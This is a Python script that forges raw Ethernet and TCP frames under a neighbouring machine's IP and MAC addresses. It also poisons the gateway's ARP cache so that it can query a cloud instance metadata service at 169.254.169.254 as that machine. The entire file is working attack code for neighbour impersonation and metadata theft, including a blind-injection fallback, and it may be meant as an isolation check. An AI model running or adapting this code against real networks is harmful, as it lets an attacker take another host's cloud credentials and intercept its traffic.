"""Speaks TCP by hand, frame by frame, with a neighbour's addresses, and prints as JSON what came of it.

Usage: neighbour.py <method> <gateway> <victim> <victim's MAC> <path>
Methods: arp (tells the gateway that the victim is here), mac (takes the victim's MAC too), blind (only the IP address)
"""
import json
import random
import socket
import struct
import sys
import time

METHOD, GATEWAY, VICTIM, VICTIM_MAC, PATH = sys.argv[1:6]
IMDS = "169.254.169.254"
INTERFACE = "eth0"
PATIENCE_SECONDS = 4


def mac_bytes(text):
    return bytes.fromhex(text.replace(":", ""))


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def gateway_mac():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        udp.sendto(b"?", (GATEWAY, 9))
    deadline = time.monotonic() + PATIENCE_SECONDS
    while time.monotonic() < deadline:
        with open("/proc/net/arp") as table:
            for line in table:
                fields = line.split()
                if fields[0] == GATEWAY and fields[3] != "00:00:00:00:00:00":
                    return mac_bytes(fields[3])
        time.sleep(0.05)
    raise OSError("the gateway has no MAC address")


def outcome(text):
    print(json.dumps(text))
    sys.exit()


try:
    frames = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
except PermissionError:
    outcome("not permitted")
frames.bind((INTERFACE, 0))
own_mac = frames.getsockname()[4]
source_mac = mac_bytes(VICTIM_MAC) if METHOD == "mac" else own_mac
router = gateway_mac()
port = random.randint(30000, 60000)
sequence = random.randint(1, 2**31)
expected = None


def poison():
    if METHOD == "arp":
        claim = struct.pack("!HHBBH6s4s6s4s", 1, 0x800, 6, 4, 2, own_mac, socket.inet_aton(VICTIM),
                            router, socket.inet_aton(GATEWAY))
        frames.send(router + own_mac + b"\x08\x06" + claim)


def send(flags, acknowledged=0, payload=b""):
    segment = struct.pack("!HHLLBBHHH", port, 80, sequence, acknowledged, 5 << 4, flags, 64240, 0, 0) + payload
    addresses = socket.inet_aton(VICTIM) + socket.inet_aton(IMDS)
    pseudo = addresses + struct.pack("!BBH", 0, 6, len(segment))
    segment = segment[:16] + struct.pack("!H", checksum(pseudo + segment)) + segment[18:]
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(segment), 1, 0, 64, 6, 0) + addresses
    head = head[:10] + struct.pack("!H", checksum(head)) + head[12:]
    frames.send(router + source_mac + b"\x08\x00" + head + segment)


def received(deadline):
    """The next segment for the forged connection: its flags, sequence number and payload."""
    while time.monotonic() < deadline:
        frames.settimeout(0.1)
        try:
            frame = frames.recv(65535)
        except TimeoutError:
            poison()
            continue
        packet = frame[14:]
        if frame[12:14] != b"\x08\x00" or packet[9] != 6 or packet[16:20] != socket.inet_aton(VICTIM):
            continue
        segment = packet[(packet[0] & 15) * 4:struct.unpack("!H", packet[2:4])[0]]
        if struct.unpack("!HH", segment[:4]) != (80, port):
            continue
        return segment[13], struct.unpack("!L", segment[4:8])[0], segment[(segment[12] >> 4) * 4:]
    return None


deadline = time.monotonic() + PATIENCE_SECONDS
answer = None
while answer is None and time.monotonic() < deadline:
    # Linux believes nothing new of a neighbour for a second after it has heard of it.
    port = random.randint(30000, 60000)
    for _ in range(3):
        poison()
        time.sleep(0.02)
    send(2)
    answer = received(min(deadline, time.monotonic() + 0.6))
if answer is None:
    # Blind: as if the answer had been seen.
    sequence += 1
    send(0x10, 1)
    send(0x18, 1, f"GET {PATH} HTTP/1.1\r\nHost: {IMDS}\r\nMetadata: true\r\n\r\n".encode())
    outcome("no answer")
if answer[0] & 4:
    outcome("reset")
expected = answer[1] + 1
sequence += 1
send(0x10, expected)
request = f"GET {PATH} HTTP/1.1\r\nHost: {IMDS}\r\nMetadata: true\r\nConnection: close\r\n\r\n".encode()
send(0x18, expected, request)
sequence += len(request)
text = b""
while True:
    answer = received(deadline)
    if answer is None or answer[0] & 4:
        break
    text += answer[2]
    if b"\r\n\r\n" in text:
        break
outcome(text.split(b"\r\n")[0].decode("latin1") or "no answer")
